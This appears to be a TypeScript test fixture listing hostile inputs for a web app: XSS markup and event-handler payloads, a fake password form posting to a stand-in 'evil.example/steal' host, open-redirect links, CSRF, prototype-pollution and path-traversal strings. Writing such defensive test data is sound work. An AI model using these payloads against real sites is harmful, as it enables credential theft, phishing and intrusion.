import { PLAIN } from '../hostile-plain-texts'

/**
 * Texts that imitate markup, URLs, paths, query parameters or other users. Data only; no test may execute them.
 */
export const hostileTexts: readonly string[] = [
  ...PLAIN,
  '<script>window.__xss=1</script>',
  '<a href="java&#x09;script:window.__xss=1">x</a>',
  '<iframe src="javascript:parent.__xss=1"></iframe>',
  '<form action="https://evil.example/steal"><input name=password type=password><button>Log in again</button></form>',
  '<div style="position:fixed;inset:0;z-index:99999;background:#fff">Session expired</div>',
  '<details open ontoggle=window.__xss=1>x</details>',
  '<a href="//evil.example/">x</a><a href="/\\evil.example">y</a>',
  '<xmp><img src="</xmp><img src=x onerror=window.__xss=1>">',
  '<img src="/api/user/logout">',
  '<svg><style>@import url(https://evil.example/z)</style></svg><img srcset="https://evil.example/s 1x">',
  '/register?aff=<img src=x onerror=window.__xss=1>',
  '/register?aff=%E0%A4%A',
  '/register?__proto__=x&aff=ok',
  '/user/reset?email=<svg onload=1>&token=t',
  '/login?expired=<img src=x onerror=1>',
  '/redemption/edit/1%2F..%2F..%2Foption',
  '/user/edit/7?x=/../../token',
  '１',
]
